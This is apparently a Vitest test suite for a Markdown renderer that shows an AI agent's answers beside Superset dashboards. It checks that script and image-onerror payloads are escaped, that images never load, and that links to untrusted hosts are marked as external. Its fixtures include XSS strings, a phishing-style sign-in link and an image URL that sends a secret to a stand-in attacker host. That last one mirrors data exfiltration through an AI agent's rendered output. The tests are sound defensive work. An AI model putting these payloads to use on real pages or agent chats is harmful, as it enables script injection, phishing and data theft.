import { describe, expect, it } from "vitest";
import { markdown, type TrustedOrigins } from "./markdown.ts";

const TRUSTED: TrustedOrigins = { self: "https://agent.example", supersets: ["http://bi", "https://superset.example:8443"] };
const render = (text: string) => markdown(text, TRUSTED);

describe("an answer's Markdown", () => {
  it("shows tables as tables and a Superset's links in a new tab", () => {
    const html = render("dev has problems:\n\n| id | chart |\n|---|---|\n| 5 | [Legacy uptime](http://bi/chart/5) |");
    expect(html).toContain("<table>");
    expect(html).toContain('<a href="http://bi/chart/5" target="_blank" rel="noopener noreferrer">Legacy uptime</a>');
  });

  it.each([
    ["<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)&gt;"],
    ["<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"],
    ["[click](javascript:alert(1))", "[click](javascript:alert(1))"],
    ['[x](data:text/html;base64,PHNjcmlwdD4=)', "[x](data:text/html;base64,PHNjcmlwdD4=)"],
  ])("never runs what a title or a result may carry: %s", (text, shown) => {
    const html = render(text);
    expect(html).toContain(shown);
    expect(html).not.toMatch(/<(img|script)\b|href="(javascript|data):/i);
  });

  it.each([
    ["![x](https://evil.example/leak?d=secret)", "![x](https://evil.example/leak?d=secret)"],
    ["![](http://bi/chart.png)", "![](http://bi/chart.png)"],
    ["![a **b**](data:image/png;base64,iVBOR)", "![a **b**](data:image/png;base64,iVBOR)"],
    ['![x][r]\n\n[r]: https://evil.example/ref "t"', "![x](https://evil.example/ref)"],
    ["[![x](https://evil.example/i)](http://bi/1)", "![x](https://evil.example/i)"],
  ])("never loads an image, and shows its source instead: %s", (text, shown) => {
    const html = render(text);
    expect(html).not.toMatch(/<img\b/i);
    expect(html).toContain(shown);
  });

  it.each([
    "[Session expired - sign in again](https://evil.example/login)",
    "https://evil.example/bare",
    "<https://evil.example/auto>",
    "[x](//evil.example/protocol-relative)",
    "[x](http://bi.evil.example/lookalike)",
    "[x](https://superset.example/other-port)",
    "mail@evil.example",
  ])("marks a link to anywhere but the page or a configured Superset as external: %s", (text) => {
    const html = render(text);
    const link = html.match(/<a [^>]*>/)?.[0] ?? "";
    expect(link).toContain('data-external="true"');
    expect(link).toContain('rel="noopener noreferrer nofollow"');
    expect(link).toContain(`title="${link.match(/href="([^"]*)"/)?.[1]}"`); // the whole address, on hover
    expect(html).toContain('<span class="external-mark" aria-hidden="true">↗</span></a>');
  });

  it.each([
    "[dashboard](http://bi/superset/dashboard/1/)",
    "[there](https://superset.example:8443/chart/5)",
    "[here](/agent?env=dev)",
    "[here](https://agent.example/agent)",
  ])("leaves the page's own and the Supersets' links unmarked: %s", (text) => {
    const html = render(text);
    expect(html).toContain("<a ");
    expect(html).not.toContain("data-external");
    expect(html).not.toContain("external-mark");
  });

  it("marks only the external one of two links side by side", () => {
    const html = render("[ours](http://bi/1) and [theirs](https://evil.example/)");
    expect(html).toContain('rel="noopener noreferrer">ours</a>');
    expect(html).toMatch(/data-external="true"[^>]*>theirs<span class="external-mark"/);
  });

  it("shows what the agent escaped as the literal text it is", () => {
    const cell = String.raw`\!\[x\]\(https\:\/\/evil\.example\/leak\?d\=secret\) \[a\]\(https\:\/\/evil\.example\) a \| b www\.evil\.com`;
    const html = render(`| cell | n |\n|---|---|\n| ${cell} | 1 |`);
    expect(html).not.toMatch(/<(a|img)\b/);
    expect(html).toContain("<td>![x](https://evil.example/leak?d=secret) [a](https://evil.example) a | b www.evil.com</td>");
    expect(html).toContain("<td>1</td>");
  });
});
